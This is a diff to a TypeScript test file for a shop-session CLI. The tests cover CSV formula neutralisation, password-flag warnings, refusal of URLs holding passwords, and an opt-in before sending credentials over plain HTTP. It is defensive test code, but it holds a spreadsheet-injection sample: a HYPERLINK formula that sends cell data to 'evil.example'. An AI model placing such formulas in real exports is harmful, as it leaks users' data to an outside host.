@@ -1,6 +1,16 @@
 import { spawn } from 'node:child_process';
-import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+} from 'node:fs';
+import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
+import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
 import { createClient } from '@cocart-sessions/client';
@@ -469,5 +479,232 @@ describe('delete from scripts', () => {
       expect(r.stderr).toBe(`cocart-sessions: ${message}\n`);
     }
     expect(await keysOf()).toHaveLength(SESSIONS.length);
+  });
+});
+
+describe('CSV and formulas', () => {
+  it('neutralises cells a spreadsheet would run, in CSV only: JSON and ndjson keep them exactly', async () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&A2,"x")';
+    const s = await startTestServer([
+      { key: 'evil_1', first: evil, last: '', email: '@SUM(1+1)@x.example' },
+      { key: 'evil_2', first: '+1', last: 'Plus', email: 'ok@x.example' },
+    ]);
+    try {
+      const env = { COCART_URL: s.url, COCART_USERNAME: ADMIN.login, COCART_PASSWORD: ADMIN.password };
+      const fields = ['--fields', 'cart_key,customers_name,customers_email'];
+      const csv = await cli(['list', '--format', 'csv', ...fields], env);
+      expect(csv.code, csv.stderr).toBe(0);
+      expect(csv.stdout).toBe(
+        `cart_key,customers_name,customers_email\r\nevil_1,"'=HYPERLINK(""https://evil.example/?""&A2,""x"")",'@SUM(1+1)@x.example\r\nevil_2,'+1 Plus,ok@x.example\r\n`,
+      );
+      const exact = [
+        { cart_key: 'evil_1', customers_name: evil, customers_email: '@SUM(1+1)@x.example' },
+        { cart_key: 'evil_2', customers_name: '+1 Plus', customers_email: 'ok@x.example' },
+      ];
+      expect(JSON.parse((await cli(['list', '--format', 'json', ...fields], env)).stdout)).toEqual(exact);
+      const nd = await cli(['list', '--format', 'ndjson', ...fields], env);
+      expect(
+        nd.stdout
+          .trimEnd()
+          .split('\n')
+          .map((l) => JSON.parse(l)),
+      ).toEqual(exact);
+    } finally {
+      await s.stop();
+    }
+  });
+});
+
+describe('-p/--password', () => {
+  it('still works, with a one-line warning on stderr that says what to use instead', async () => {
+    const r = await cli(['list', '--format', 'json', '-p', ADMIN.password], {
+      COCART_URL: server.url,
+      COCART_USERNAME: ADMIN.login,
+    });
+    expect(r.code).toBe(0);
+    expect(JSON.parse(r.stdout)).toHaveLength(SESSIONS.length);
+    expect(r.stderr).toBe(
+      'cocart-sessions: warning: --password shows the password to every local user (ps, /proc) and keeps it in shell history; leave it out to be asked for it without echo, or use COCART_PASSWORD or a saved profile (profiles add).\n',
+    );
+    const add = await cli([
+      'profiles',
+      'add',
+      'p',
+      '--url',
+      server.url,
+      '--user',
+      'admin',
+      '--password',
+      'x',
+    ]);
+    expect(add.code, add.stderr).toBe(0);
+    expect(add.stderr).toMatch(/^cocart-sessions: warning: .*--password-stdin.*\n$/);
+    expect((await cli(['list'], auth())).stderr).toBe('');
+  });
+});
+
+describe('store URLs that hold a password', () => {
+  const secret = 's3cr3t-in-url';
+  const withLogin = () => server.url.replace('http://', `http://${ADMIN.login}:${secret}@`);
+
+  it('are refused before anything is sent or saved, and the password is printed nowhere', async () => {
+    const xdg = tempDir('cocart-profiles-');
+    const runs = [
+      await cli(['list'], { COCART_URL: withLogin() }),
+      await cli(['list', '--json', '--url', withLogin(), '--user', ADMIN.login], {
+        COCART_PASSWORD: ADMIN.password,
+      }),
+      await cli(
+        ['profiles', 'add', 'shop', '--url', withLogin(), '--user', ADMIN.login, '--password-stdin'],
+        { XDG_CONFIG_HOME: xdg },
+        ADMIN.password,
+      ),
+    ];
+    for (const r of runs) {
+      expect(r.code).toBe(2);
+      expect(r.stderr).toBe(
+        `cocart-sessions: The store URL ${server.url}/ must not hold a login: give it with --user (the password is asked for, or taken from COCART_PASSWORD or a profile) or --consumer-key.\n`,
+      );
+      expect(r.stdout).toBe('');
+    }
+    expect(existsSync(join(xdg, 'cocart-sessions', 'profiles.json'))).toBe(false);
+  });
+
+  it('one saved in a profile is never shown by profiles list (table or --json) nor used', async () => {
+    const xdg = tempDir('cocart-profiles-');
+    mkdirSync(join(xdg, 'cocart-sessions'), { mode: 0o700 });
+    const old = { url: withLogin(), user: ADMIN.login, password: ADMIN.password };
+    writeFileSync(
+      join(xdg, 'cocart-sessions', 'profiles.json'),
+      JSON.stringify({ default: 'old', profiles: { old } }),
+      { mode: 0o600 },
+    );
+    const env = { XDG_CONFIG_HOME: xdg };
+    const table = await cli(['profiles', 'list'], env);
+    expect(table.stdout).toMatch(new RegExp(`^\\*\\s+old\\s+${server.url}/\\s+user admin$`, 'm'));
+    const json = await cli(['profiles', 'list', '--json'], env);
+    expect(JSON.parse(json.stdout)).toEqual([
+      { name: 'old', url: `${server.url}/`, user: 'admin', default: true },
+    ]);
+    const used = await cli(['list'], env);
+    expect(used.code).toBe(2);
+    for (const r of [table, json, used]) expect(r.stdout + r.stderr).not.toContain(secret);
+  });
+});
+
+/** This machine's first IPv4 address that is not loopback: a store there looks remote to the CLI. */
+const REMOTE_ADDRESS = Object.values(networkInterfaces())
+  .flat()
+  .find((a) => a?.family === 'IPv4' && !a.internal)?.address;
+if (!REMOTE_ADDRESS) console.warn('No IPv4 address besides loopback: skipping the plain-HTTP opt-in tests');
+
+/** A TCP forwarder on REMOTE_ADDRESS to the test server, counting the connections it was asked for. */
+async function remoteLooking(): Promise<{ url: string; connections: () => number; close(): Promise<void> }> {
+  const target = new URL(server.url);
+  const sockets = new Set<Socket>();
+  let connections = 0;
+  const forwarder = createServer((socket) => {
+    connections++;
+    const upstream = connect(Number(target.port), target.hostname);
+    for (const [a, b] of [
+      [socket, upstream],
+      [upstream, socket],
+    ] as const) {
+      sockets.add(a);
+      a.pipe(b);
+      a.on('error', () => b.destroy());
+    }
+  });
+  await new Promise<void>((resolve) => forwarder.listen(0, REMOTE_ADDRESS, resolve));
+  const { port } = forwarder.address() as AddressInfo;
+  return {
+    url: `http://${REMOTE_ADDRESS}:${port}`,
+    connections: () => connections,
+    close: () =>
+      new Promise<void>((resolve) => {
+        for (const socket of sockets) socket.destroy();
+        forwarder.close(() => resolve());
+      }),
+  };
+}
+
+describe.runIf(REMOTE_ADDRESS)('credentials over plain HTTP to a host other than loopback', () => {
+  const login = { COCART_USERNAME: ADMIN.login, COCART_PASSWORD: ADMIN.password };
+
+  it('go only with --allow-insecure-http; without it nothing is sent, and no login needs no opt-in', async () => {
+    const remote = await remoteLooking();
+    try {
+      const host = new URL(remote.url).host;
+      for (const env of [
+        { ...login, COCART_URL: remote.url } as Record<string, string>,
+        { COCART_URL: remote.url, COCART_CONSUMER_KEY: 'ck_x', COCART_CONSUMER_SECRET: 'cs_x' },
+      ]) {
+        const refused = await cli(['list'], env);
+        expect(refused.code).toBe(2);
+        expect(refused.stderr).toBe(
+          `cocart-sessions: Refusing to send credentials over plain HTTP to ${host}: anyone on the network path could read them. Use https://, or pass --allow-insecure-http if that network is trusted (profiles add --allow-insecure-http saves the choice).\n`,
+        );
+      }
+      expect(remote.connections()).toBe(0);
+      const allowed = await cli(['list', '--format', 'json', '--allow-insecure-http'], {
+        ...login,
+        COCART_URL: remote.url,
+      });
+      expect(allowed.code, allowed.stderr).toBe(0);
+      expect(JSON.parse(allowed.stdout)).toHaveLength(SESSIONS.length);
+      // No credentials, nothing to protect: the store is asked, and answers 401 (exit 3).
+      expect((await cli(['list'], { COCART_URL: remote.url })).code).toBe(3);
+    } finally {
+      await remote.close();
+    }
+  });
+
+  it('profiles add refuses such a store without the flag, and saves the opt-in for that URL with it', async () => {
+    const remote = await remoteLooking();
+    try {
+      const xdg = tempDir('cocart-profiles-');
+      const env = { XDG_CONFIG_HOME: xdg };
+      const file = join(xdg, 'cocart-sessions', 'profiles.json');
+      const save = (extra: string[]) =>
+        cli(
+          [
+            'profiles',
+            'add',
+            'lan',
+            '--url',
+            remote.url,
+            '--user',
+            ADMIN.login,
+            '--password-stdin',
+            '--default',
+            ...extra,
+          ],
+          env,
+          ADMIN.password,
+        );
+      const refused = await save([]);
+      expect(refused.code).toBe(2);
+      expect(refused.stderr).toContain('pass --allow-insecure-http');
+      expect(existsSync(file)).toBe(false);
+      expect(remote.connections()).toBe(0);
+
+      const saved = await save(['--allow-insecure-http']);
+      expect(saved.code, saved.stderr).toBe(0);
+      expect(JSON.parse(readFileSync(file, 'utf8')).profiles.lan).toEqual({
+        url: remote.url,
+        user: ADMIN.login,
+        password: ADMIN.password,
+        allow_insecure_http: true,
+      });
+      const listed = await cli(['list', '--format', 'json'], env);
+      expect(listed.code, listed.stderr).toBe(0);
+      expect(JSON.parse(listed.stdout)).toHaveLength(SESSIONS.length);
+      // The opt-in belongs to the profile's URL: another one given by flag needs its own.
+      const other = await cli(['list', '--profile', 'lan', '--url', `http://${REMOTE_ADDRESS}:9`], env);
+      expect(other.code).toBe(2);
+      expect(other.stderr).toContain(`over plain HTTP to ${REMOTE_ADDRESS}:9:`);
+    } finally {
+      await remote.close();
+    }
   });
 });
